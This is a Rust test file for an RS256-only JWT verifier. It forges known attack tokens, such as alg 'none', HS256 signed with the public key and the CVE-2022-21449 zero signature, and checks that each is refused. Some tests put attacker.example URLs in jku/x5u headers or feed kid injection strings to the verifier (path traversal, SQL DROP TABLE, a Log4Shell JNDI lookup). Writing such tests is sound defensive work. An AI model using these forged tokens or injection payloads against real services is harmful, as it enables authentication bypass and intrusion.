//! The signature and its algorithm: RS256 with a usable key only, whatever
//! the header asks for.

use super::*;

#[tokio::test]
async fn alg_none_in_any_casing_is_refused() {
    let verifier = verifier().await;
    for alg in ["none", "None", "NONE", "nOnE"] {
        let header = json!({ "kid": "dev-key-1", "alg": alg });
        for sign in [Sign::Bytes(vec![]), Sign::Rsa(DEV_1_PEM)] {
            let token = token(&header, &access(POOL_A), sign);
            assert_eq!(
                refused(&verifier, &token).await,
                VerifyError::AlgorithmNotAllowed,
                "{alg}"
            );
        }
    }
}

#[tokio::test]
async fn other_algorithms_are_refused_before_any_key_lookup() {
    let verifier = verifier().await;
    for alg in [
        "HS256", "HS384", "HS512", "PS256", "ES256", "RS384", "RS512", "rs256", "EdDSA", "",
    ] {
        let header = json!({ "kid": "unknown-kid", "alg": alg });
        let token = token(&header, &access(POOL_A), Sign::Rsa(DEV_1_PEM));
        let expected = if alg.is_empty() {
            VerifyError::MissingHeader { name: "alg" }
        } else {
            VerifyError::AlgorithmNotAllowed
        };
        assert_eq!(refused(&verifier, &token).await, expected, "{alg}");
    }
    // Checked before the kid is looked up, so no fetch was attempted.
    assert!(!verifier.fetcher.client_built());
}

#[tokio::test]
async fn hs256_signed_with_the_public_key_is_refused() {
    let verifier = verifier().await;
    let jwk: Value = serde_json::from_str(DEV_1_JWKS).unwrap();
    let n = jwk["keys"][0]["n"].as_str().unwrap().to_owned();
    // Every way a confused verifier might turn the public key into a secret.
    let public_der = rsa(DEV_1_PEM).public_key().as_ref().to_vec();
    let secrets: Vec<Vec<u8>> = vec![
        n.clone().into_bytes(),
        URL_SAFE_NO_PAD.decode(&n).unwrap(),
        DEV_1_JWKS.as_bytes().to_vec(),
        public_der,
    ];
    for secret in &secrets {
        let hs = json!({ "kid": "dev-key-1", "alg": "HS256" });
        let token = token(&hs, &access(POOL_A), Sign::Hmac(secret));
        assert_eq!(
            refused(&verifier, &token).await,
            VerifyError::AlgorithmNotAllowed
        );
        // The same MAC under a header that claims RS256 is just a bad signature.
        let token = token_from_raw(
            &header("dev-key-1").to_string(),
            &access(POOL_A).to_string(),
            Sign::Hmac(secret),
        );
        assert_eq!(
            refused(&verifier, &token).await,
            VerifyError::InvalidSignature
        );
    }
}

#[tokio::test]
async fn ec_signatures_and_psychic_signatures_are_refused() {
    let verifier = verifier().await;
    let es = json!({ "kid": "dev-key-1", "alg": "ES256" });
    let token_es = token(&es, &access(POOL_A), Sign::Ec);
    assert_eq!(
        refused(&verifier, &token_es).await,
        VerifyError::AlgorithmNotAllowed
    );
    // CVE-2022-21449: r = s = 0.
    let psychic = token(&es, &access(POOL_A), Sign::Bytes(vec![0; 64]));
    assert_eq!(
        refused(&verifier, &psychic).await,
        VerifyError::AlgorithmNotAllowed
    );
    let as_rs = token(
        &header("dev-key-1"),
        &access(POOL_A),
        Sign::Bytes(vec![0; 64]),
    );
    assert_eq!(
        refused(&verifier, &as_rs).await,
        VerifyError::InvalidSignature
    );
    let as_rs = token(&header("dev-key-1"), &access(POOL_A), Sign::Ec);
    assert_eq!(
        refused(&verifier, &as_rs).await,
        VerifyError::InvalidSignature
    );
}

#[tokio::test]
async fn wrong_key_tampering_and_truncation_break_the_signature() {
    let verifier = verifier().await;
    let signed_by_other = token(&header("dev-key-1"), &access(POOL_A), Sign::Rsa(DEV_2_PEM));
    assert_eq!(
        refused(&verifier, &signed_by_other).await,
        VerifyError::InvalidSignature
    );

    let good = token(&header("dev-key-1"), &access(POOL_A), Sign::Rsa(DEV_1_PEM));
    let parts: Vec<&str> = good.split('.').collect();
    let forged_payload = b64(set(access(POOL_A), "username", json!("root"))
        .to_string()
        .as_bytes());
    let tampered = format!("{}.{forged_payload}.{}", parts[0], parts[2]);
    assert_eq!(
        refused(&verifier, &tampered).await,
        VerifyError::InvalidSignature
    );
    let signature = URL_SAFE_NO_PAD.decode(parts[2]).unwrap();
    let truncated = format!("{}.{}.{}", parts[0], parts[1], b64(&signature[..200]));
    assert_eq!(
        refused(&verifier, &truncated).await,
        VerifyError::InvalidSignature
    );
    let empty = format!("{}.{}.", parts[0], parts[1]);
    assert_eq!(
        refused(&verifier, &empty).await,
        VerifyError::InvalidSignature
    );
}

#[tokio::test]
async fn a_1024_bit_key_is_never_used() {
    // aws-lc refuses to sign with a 1024-bit key, so this token was signed
    // once with weak-rsa-1024.pem (Python `cryptography`, PKCS#1 v1.5 SHA-256)
    // for POOL_A and CLIENT, expiring in 2100.
    const WEAK_TOKEN: &str = concat!(
        "eyJraWQiOiJ3ZWFrLWtleS0xMDI0IiwiYWxnIjoiUlMyNTYifQ.",
        "eyJzdWIiOiJhYWFhYWFhYS1iYmJiLWNjY2MtZGRkZC1lZWVlZWVlZWVlZWUiLCJpc3MiOiJodHRwczovL2NvZ25pdG8taWRwLmV1LXdlc3QtMS5hbWF6b25hd3MuY29tL2V1LXdlc3QtMV9Qb29sQTEiLCJjbGllbnRfaWQiOiJjbGllbnQxYWJjIiwidG9rZW5fdXNlIjoiYWNjZXNzIiwic2NvcGUiOiJvcGVuaWQiLCJhdXRoX3RpbWUiOjE3MDAwMDAwMDAsImlhdCI6MTcwMDAwMDAwMCwiZXhwIjo0MTAyNDQ0ODAwLCJqdGkiOiJ3ZWFrLWp0aSIsInVzZXJuYW1lIjoiYWxpY2UifQ.",
        "GDshrSue8IZRf0A65CtncBhD_h_C_-U7--_JcEUeHc76uKVsEW_qCbhmqX6e6WyANO33twfNOIX4v9UEUEdFRY_O0OrF9mLNzDXXzqGyDS02E9mzHpMk810ohJHFRjHL_0r9s-Y_Phf-vAWuUktb6oMVuVARakGMMn2Ae-wGZko"
    );
    // The signature really is valid under the weak key...
    let jwk: Value = serde_json::from_str(WEAK_JWKS).unwrap();
    let component = |name: &str| {
        URL_SAFE_NO_PAD
            .decode(jwk["keys"][0][name].as_str().unwrap())
            .unwrap()
    };
    let (input, sig) = WEAK_TOKEN.rsplit_once('.').unwrap();
    signature::RsaPublicKeyComponents {
        n: component("n"),
        e: component("e"),
    }
    .verify(
        &signature::RSA_PKCS1_1024_8192_SHA256_FOR_LEGACY_USE_ONLY,
        input.as_bytes(),
        &URL_SAFE_NO_PAD.decode(sig).unwrap(),
    )
    .unwrap();
    // ...yet the key was skipped at load, so the token is refused.
    let file = jwks_file("weak", &[WEAK_JWKS, DEV_1_JWKS]);
    let verifier = verifier_with(&[(JWKS_FILE.name, &file)]).await;
    assert_eq!(
        refused(&verifier, WEAK_TOKEN).await,
        VerifyError::UnknownKid
    );
    // A JWKS_FILE with only the weak key has no usable key: init fails.
    let only_weak = format!("{KEYS}/weak-rsa-1024.jwks.json");
    let config = VerifierConfig::from_env(&Env::from_pairs([
        (USER_POOL_ID.name, POOL_A),
        (APP_CLIENT_IDS.name, CLIENT),
        (JWKS_FILE.name, only_weak.as_str()),
    ]))
    .unwrap();
    let err = Verifier::new(config).await.unwrap_err();
    assert_eq!(err.variable, JWKS_FILE.name);
    assert!(err.reason.contains("no usable"), "{err}");
}

/// The longest key accepted (8,192 bits, aws-lc's limit for RS256) is
/// used: a token it signed verifies, and a tampered one does not.
#[tokio::test]
async fn an_8192_bit_key_at_the_limit_is_used() {
    let file = jwks_file("rsa-8192", &[RSA_8192_JWKS, DEV_1_JWKS]);
    let verifier = verifier_with(&[(JWKS_FILE.name, &file)]).await;
    let signed = token(
        &header("rsa-8192"),
        &access(POOL_A),
        Sign::Rsa(RSA_8192_PEM),
    );
    let claims = verifier.verify(&signed).await.unwrap();
    assert_eq!(claims.username.as_deref(), Some("alice"));
    let (input, _) = signed.rsplit_once('.').unwrap();
    let other = token(&header("rsa-8192"), &access(POOL_A), Sign::Rsa(DEV_1_PEM));
    let (_, wrong_signature) = other.rsplit_once('.').unwrap();
    assert_eq!(
        refused(&verifier, &format!("{input}.{wrong_signature}")).await,
        VerifyError::InvalidSignature
    );
}

#[tokio::test]
async fn embedded_keys_and_crit_are_refused_even_when_signed() {
    let verifier = verifier().await;
    let jwk: Value = serde_json::from_str(DEV_1_JWKS).unwrap();
    let cases = [
        (
            "jwk",
            jwk["keys"][0].clone(),
            VerifyError::ForbiddenHeader { name: "jwk" },
        ),
        (
            "jku",
            json!("https://attacker.example/jwks.json"),
            VerifyError::ForbiddenHeader { name: "jku" },
        ),
        (
            "x5u",
            json!("https://attacker.example/c.pem"),
            VerifyError::ForbiddenHeader { name: "x5u" },
        ),
        (
            "x5c",
            json!(["MIIBIjANBg"]),
            VerifyError::ForbiddenHeader { name: "x5c" },
        ),
        ("crit", json!(["exp"]), VerifyError::CriticalHeader),
    ];
    for (member, value, expected) in cases {
        let mut h = header("dev-key-1");
        h[member] = value;
        let token = token(&h, &access(POOL_A), Sign::Rsa(DEV_1_PEM));
        assert_eq!(refused(&verifier, &token).await, expected);
    }
}

#[tokio::test]
async fn kid_injection_strings_are_only_map_keys() {
    let verifier = verifier().await;
    for kid in [
        "../../../../etc/passwd",
        "/dev/null",
        "dev-key-1' OR '1'='1",
        "dev-key-1\"; DROP TABLE keys; --",
        "dev-key-1\u{0}",
        "dev-key-1 ",
        "DEV-KEY-1",
        "${jndi:ldap://attacker.example/a}",
    ] {
        let token = token(&header(kid), &access(POOL_A), Sign::Rsa(DEV_1_PEM));
        let err = refused(&verifier, &token).await;
        assert_eq!(err, VerifyError::UnknownKid, "{kid:?}");
        assert!(!format!("{err} {err:?}").contains(kid.trim()), "{kid:?}");
    }
    let missing = token(
        &json!({ "alg": "RS256" }),
        &access(POOL_A),
        Sign::Rsa(DEV_1_PEM),
    );
    assert_eq!(
        refused(&verifier, &missing).await,
        VerifyError::MissingHeader { name: "kid" }
    );
}
